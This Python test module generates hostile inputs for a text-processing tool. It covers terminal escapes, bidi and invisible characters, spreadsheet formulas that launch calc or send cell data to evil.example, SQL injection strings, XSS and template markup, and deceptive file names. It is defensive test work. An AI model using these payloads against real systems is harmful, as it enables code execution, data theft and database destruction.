"""What would steer what is shown: terminal escapes, marks that turn or hide text, formulas, markup, SQL, file names."""

from __future__ import annotations

import json
from collections.abc import Iterator

from tests.hostile.recipes.case import CLEAN, EITHER, SAID, Case, Expected, raw
from tests.hostile.recipes.pages import TEXT, page
from tests.hostile.recipes.xml import item, rss

ESCAPES = {
    "colour": "\x1b[31mred\x1b[0m",
    "clear": "\x1b[2J\x1b[H",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "c1": "\x9b2J\x9d0;x\x9c",
    "answer": "\x1b[c\x1b[6n\x05",
    "back": "safe\b\b\b\bevil\x7f",
    "return": "evil line\rgood line",
}
TURNS = {
    "override": "\u202egnp.exe\u202c",
    "embed": "\u202babc\u202c",
    "isolate": "\u2066x\u2069\u2067y\u2069",
    "mark": "\u200f\u200e\u061c",
    "unclosed": "\u202e\u202e\u202e",
    "separators": "a\u2028b\u2029c",
    "nested": "\u202e" * 200 + "x",
}
HIDES = {
    "space": "har\u200bbour",
    "joiner": "har\u200d\u200cbour",
    "word": "har\u2060bour",
    "bom": "har\ufeffbour",
    "tags": "\U000e0041\U000e0042\U000e007f",
    "shy": "har\u00adbour",
    "filler": "\u3164\uffa0\u115f",
    "flood": "\u200b" * 2_000,
}
FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "link": '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "import": '=IMPORTXML("http://evil.example","//a")',
    "full": "\uff1d1+1",
}
SQL = {
    "drop": "Robert'); DROP TABLE documents;--",
    "quote": "O''Brien \" ` [x]",
    "union": "' UNION SELECT sql FROM sqlite_master--",
    "like": "%_%\\%",
    "semicolon": "a; ATTACH DATABASE '/tmp/x' AS y",
    "comment": "/* */ -- #",
    "parameter": ":name ?1 @x $y",
    "nul": "a' || char(0) || 'b",
}
FTS = {
    "near": "NEAR(harbour ships, 5)",
    "column": "text : harbour",
    "star": "har* OR *",
    "quote": '"harbour" AND "',
    "brackets": "((((harbour",
    "not": "NOT NOT harbour AND OR",
    "caret": "^harbour + ^ -ships",
    "minus": "-{text title} : harbour",
}


def record(**fields: str) -> bytes:
    """One JSON line."""
    return (json.dumps({"text": SAID, **fields}) + "\n").encode()


def escapes_in_texts() -> Iterator[Case]:
    """Terminal escapes where people read words."""
    for name, code in ESCAPES.items():
        text = f"{SAID * 6} Then {code} Ada {code} Brook said that the {code} port was open."
        yield Case(f"{name}.txt", f"{name} escapes in a text", raw(text), CLEAN)


def escapes_in_titles() -> Iterator[Case]:
    """Terminal escapes in titles, outlets and names."""
    for name, code in list(ESCAPES.items())[:3]:
        yield Case(
            f"{name}.jsonl",
            f"{name} escapes in title, outlet and name",
            raw(record(title=f"a{code}", outlet=f"b{code}", doc=f"c{code}")),
            EITHER,
        )
    code = ESCAPES["clear"] + ESCAPES["c1"]
    yield Case(
        "page.html",
        "escapes in a page's title and outlet",
        raw(page(head=f"<title>{code}</title><meta property='og:site_name' content='{code}'>")),
        CLEAN,
    )
    yield Case(
        "feed.xml",
        "escapes in a feed's titles, as references",
        raw(rss(item(title="&#x9b;2J &#155;"), title="&#x1b;[2J")),
        EITHER,
    )
    yield Case(
        "head.txt",
        "escapes in head lines",
        raw(f"date 2025-12-29\ntitle Harbour {code}\noutlet Velm{code}\n\n{SAID}"),
        EITHER,
    )
    yield Case("mark.md", "escapes in a Markdown title", raw(f"# Harbour {code}\n\n{SAID}\n"), CLEAN)
    yield Case("url.jsonl", "escapes in an address", raw(record(url=f"https://velm.example/{code}")), EITHER)


def turned() -> Iterator[Case]:
    """Marks that turn what follows."""
    for name, code in TURNS.items():
        yield Case(
            f"{name}.jsonl",
            f"{name} marks in text, title and outlet",
            raw(record(text=f"{SAID} Ada {code} Brook said it {code}.", title=f"T {code} t", outlet=f"O {code} o")),
            CLEAN,
        )
    yield Case(
        "page.html",
        "marks in a page",
        raw(page(TEXT.replace("harbour was", "harbour was\u2067\u2069"), head="<title>\u202eruobraH</title>")),
        Expected(holds="closed"),
    )


def hidden() -> Iterator[Case]:
    """Characters that nobody sees."""
    for name, code in HIDES.items():
        yield Case(
            f"{name}.jsonl",
            f"{name} characters in text, title and outlet",
            raw(record(text=f"{SAID} Ada{code} Brook said that {code} it was.", title=f"T{code}", outlet=f"O{code}")),
            CLEAN,
        )


def file_names() -> Iterator[Case]:
    """Names of files."""
    for name, written in {
        "escape": b"\x1b[31mred\x07.txt",
        "newline": b"a\nsayso: all is well.txt",
        "bidi": "story\u202etxt.exe".encode(),
        "formula": b"=cmd|calc.txt",
        "markup": b"<script>alert(1)<!script>.txt",
        "bytes": b"\xff\xfe\xc0.txt",
        "long": b"a" * 250 + b".txt",
        "option": b"--db=evil.txt",
    }.items():
        yield Case(f"{name}.txt", f"a file's name with {name}", raw(SAID), CLEAN, on_disk=written)


def formulas() -> Iterator[Case]:
    """Words that a spreadsheet would run."""
    for name, cell in FORMULAS.items():
        text = f'{SAID} {cell} Ada Brook said. "{cell}," said {cell} Brook of the {cell} office.'
        yield Case(
            f"{name}.jsonl",
            f"{name} at the start of title, outlet, name and statement",
            raw(record(text=text, title=cell, outlet=cell, doc=cell)),
            CLEAN,
        )


def markup() -> Iterator[Case]:
    """Markup in words."""
    for name, tag in {
        "script": "<script>alert(1)</script>",
        "image": "<img src=x onerror=alert(1)>",
        "rich": "[red]x[/red] [link=http://evil.example]y[/link]",
        "template": "{{7*7}} ${7*7} <%= 7 %> {% x %}",
        "entity": "&lt;b&gt; &amp;amp; &#x1b;[2J",
        "markdown": "[click](javascript:alert(1)) ![](x)",
        "log": "\n2025-12-29 ERROR all is lost\nsayso: 5 added",
    }.items():
        yield Case(
            f"{name}.jsonl",
            f"{name} in text, title and outlet",
            raw(record(text=f"{SAID} He wrote {tag} on it.", title=tag, outlet=tag)),
            CLEAN,
        )


def sql_names() -> Iterator[Case]:
    """SQL where names are."""
    for name, words in SQL.items():
        yield Case(
            f"{name}.jsonl",
            f"{name} in name, title, outlet and text, and asked for",
            raw(record(text=f"{SAID} {words} said that it was.", title=words, outlet=words, doc=words)),
            CLEAN,
            asked=(words,),
        )


def queries() -> Iterator[Case]:
    """Search syntax where words are."""
    for name, words in FTS.items():
        yield Case(f"{name}.txt", f"a text that is searched for {name}", raw(f"{SAID} {words}"), CLEAN, asked=(words,))
